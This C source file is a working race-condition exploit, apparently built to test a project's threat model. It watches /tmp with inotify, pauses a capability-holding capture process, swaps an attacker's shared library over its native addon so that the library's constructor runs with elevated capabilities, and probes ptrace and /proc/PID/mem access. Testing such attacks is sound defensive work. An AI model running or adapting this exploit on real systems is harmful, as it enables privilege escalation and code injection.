// swap-attack: what a member of the capture group could do to an executable
// with file capabilities that writes its native addon into a folder of its
// own under /tmp (unixsock before docs/threat-model.md). Run as that member:
//
//   swap-attack WATCH_DIR EVIL.so -- CAPTURE ARGS...
//
// It watches WATCH_DIR with inotify, starts the capture, and as soon as a
// folder unixsock-* that belongs to its own uid appears and a file
// unixsock.node is created in it, stops the capture (SIGSTOP: the capture
// runs with the member's uid, so the member may signal it), renames EVIL.so
// over that name (the member owns the folder), and lets it go on (SIGCONT).
// The capture then writes into the file it opened (now unlinked) and dlopens
// the name: EVIL.so's constructor runs with the capture's capabilities.
// Renaming at creation, not after the close, and running the capture niced
// on the attacker's CPU (so that the attacker, woken by inotify, preempts it)
// make the swap win the race every time.
//
// Prints one line per step on stderr; exits with the capture's exit status.
// "swapped" on stdout when it replaced the file, "nothing to swap" otherwise.
//
//   swap-attack --ptrace PID   PTRACE_ATTACH: prints "attached" or the errno name
//   swap-attack --mem PID      open /proc/PID/mem for reading and writing: "opened" or the error
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <sys/resource.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[65536] __attribute__((aligned(__alignof__(struct inotify_event))));

static int copy(const char *from, const char *to)
{
	FILE *in = fopen(from, "rb"), *out = fopen(to, "wb");
	char b[65536];
	size_t n;

	if (!in || !out)
		return -1;
	while ((n = fread(b, 1, sizeof b, in)) > 0)
		fwrite(b, 1, n, out);
	fclose(in);
	chmod(to, 0755);
	return fclose(out);
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "--ptrace")) {
		pid_t t = atoi(argv[2]);
		if (ptrace(PTRACE_ATTACH, t, 0, 0) == 0) {
			waitpid(t, NULL, __WALL);
			ptrace(PTRACE_DETACH, t, 0, 0);
			printf("attached\n");
			return 0;
		}
		printf("%s\n", strerrorname_np(errno));
		return 1;
	}
	if (argc == 3 && !strcmp(argv[1], "--mem")) {
		char f[64];
		snprintf(f, sizeof f, "/proc/%s/mem", argv[2]);
		int fd = open(f, O_RDWR);
		if (fd >= 0) {
			printf("opened\n");
			return 0;
		}
		printf("%s\n", strerrorname_np(errno));
		return 1;
	}
	if (argc < 5 || strcmp(argv[3], "--")) {
		fprintf(stderr, "usage: swap-attack WATCH_DIR EVIL.so -- CAPTURE ARGS...\n");
		return 2;
	}
	const char *watch = argv[1], *evil = argv[2];
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, watch, IN_CREATE | IN_ONLYDIR) < 0) {
		perror("swap-attack: inotify");
		return 2;
	}
	cpu_set_t one;
	CPU_ZERO(&one);
	CPU_SET(sched_getcpu() < 0 ? 0 : sched_getcpu(), &one);
	sched_setaffinity(0, sizeof one, &one);
	pid_t pid = fork();
	if (pid == 0) {
		setpriority(PRIO_PROCESS, 0, 19);
		execv(argv[4], argv + 4);
		perror("swap-attack: exec");
		_exit(127);
	}
	fprintf(stderr, "swap-attack: capture pid %d, watching %s\n", pid, watch);
	int sub = -1, swapped = 0, status = 0;
	char subdir[PATH_MAX] = "";
	for (;;) {
		pid_t w = waitpid(pid, &status, WNOHANG);
		if (w == pid)
			break;
		struct pollfd p = { in, POLLIN, 0 };
		if (poll(&p, 1, 20) <= 0)
			continue;
		ssize_t len = read(in, buf, sizeof buf);
		int go = 0;
		for (char *q = buf; len > 0 && q < buf + len;) {
			struct inotify_event *ev = (struct inotify_event *)q;
			q += sizeof *ev + ev->len;
			if (!ev->len)
				continue;
			if (sub < 0 && ev->wd != sub && !strncmp(ev->name, "unixsock-", 9)) {
				char d[PATH_MAX], f[PATH_MAX + 16];
				struct stat st;
				snprintf(d, sizeof d, "%s/%s", watch, ev->name);
				if (stat(d, &st) || st.st_uid != getuid() || !S_ISDIR(st.st_mode))
					continue; /* someone else's (root's captures, other tests) */
				sub = inotify_add_watch(in, d, IN_CREATE);
				if (sub < 0)
					continue;
				snprintf(subdir, sizeof subdir, "%s", d);
				fprintf(stderr, "swap-attack: the capture made %s\n", d);
				snprintf(f, sizeof f, "%s/unixsock.node", d);
				if (access(f, F_OK) == 0)
					go = 1; /* already there */
			} else if (sub >= 0 && ev->wd == sub && !strcmp(ev->name, "unixsock.node")) {
				go = 1;
			}
		}
		if (go && !swapped) {
			char f[PATH_MAX + 16], tmp[PATH_MAX + 16];
			kill(pid, SIGSTOP);
			snprintf(f, sizeof f, "%s/unixsock.node", subdir);
			snprintf(tmp, sizeof tmp, "%s/.evil", subdir);
			if (copy(evil, tmp) == 0 && rename(tmp, f) == 0) {
				swapped = 1;
				fprintf(stderr, "swap-attack: stopped %d, put %s in place of %s, continued\n", pid,
					evil, f);
			} else {
				fprintf(stderr, "swap-attack: swap failed: %s\n", strerror(errno));
			}
			kill(pid, SIGCONT);
		}
	}
	printf("%s\n", swapped ? "swapped" : "nothing to swap");
	if (WIFEXITED(status))
		return WEXITSTATUS(status);
	return 128 + WTERMSIG(status);
}
